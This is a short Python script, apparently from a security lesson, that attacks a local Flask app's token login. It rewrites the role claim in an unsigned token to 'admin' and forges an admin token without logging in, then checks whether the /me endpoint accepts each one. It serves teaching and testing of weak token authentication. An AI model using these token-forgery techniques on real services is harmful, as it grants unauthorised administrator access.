"""Attacks of lesson 2, tried on app.py."""

import json
from base64 import urlsafe_b64decode, urlsafe_b64encode

from app import app

client = app.test_client()


def rewrite_role():
    """Log in as ada, and change the role in the token."""
    ada = {"username": "ada", "password": "analytical engine"}
    parts = client.post("/login", json=ada).json["token"].split(".")
    place = 1 if len(parts) == 3 else 0  # a token of lesson 1 has one part
    claims = json.loads(urlsafe_b64decode(parts[place] + "=" * (-len(parts[place]) % 4)))
    parts[place] = urlsafe_b64encode(json.dumps({**claims, "role": "admin"}).encode()).decode().rstrip("=")
    return is_admin(".".join(parts))


def invent_token():
    """Write a token for an administrator, without any login."""
    claims = {"sub": "grace", "role": "admin"}
    return is_admin(urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("="))


def is_admin(token):
    """Return whether the service takes the owner of a token for an administrator."""
    response = client.get("/me", headers={"Authorization": f"Bearer {token}"})
    return response.status_code == 200 and response.json["role"] == "admin"


for attack in (rewrite_role, invent_token):
    print(f"{attack.__name__}: {'succeeds' if attack() else 'fails'}")
